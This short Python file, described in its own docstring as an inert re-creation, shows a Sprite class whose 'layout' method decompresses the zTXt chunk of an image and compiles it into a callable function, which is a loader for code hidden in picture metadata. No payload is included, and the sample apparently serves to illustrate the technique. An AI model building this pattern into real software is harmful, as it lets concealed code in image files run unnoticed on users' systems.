"""Inert re-creation: the table of a picture is code."""
import zlib


class Sprite:
    def __init__(self, chunks):
        self.chunks = chunks

    def layout(self, scope):
        raw = self.chunks.get(b"zTXt", b"")
        code = compile(zlib.decompress(raw).decode(), "slices", "exec")
        return type(self.layout.__func__)(code, scope)
